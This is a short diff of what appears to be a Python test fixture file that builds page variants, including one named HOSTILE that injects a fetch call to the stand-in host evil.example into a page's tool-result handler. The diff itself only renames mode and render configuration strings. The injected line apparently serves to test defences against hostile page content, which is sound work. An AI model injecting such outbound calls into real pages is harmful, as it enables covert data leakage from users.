@@ -19,8 +19,9 @@ HOSTILE = PAGE.replace(
     "app.ontoolresult = show;", "app.ontoolresult = show;\nfetch('https://evil.example/' + 1);\n"
 )
 SLIP = PAGE.replace(' lang="en"', "")
-TRIED = 'mode = "html"\n'
-MODE = TRIED + "render = false\n"
+PAGES = 'mode = "html"\n'
+TRIED = PAGES + "render = true\n"
+MODE = PAGES + "render = false\n"
 
 
 def named(page, tool=TOOL):
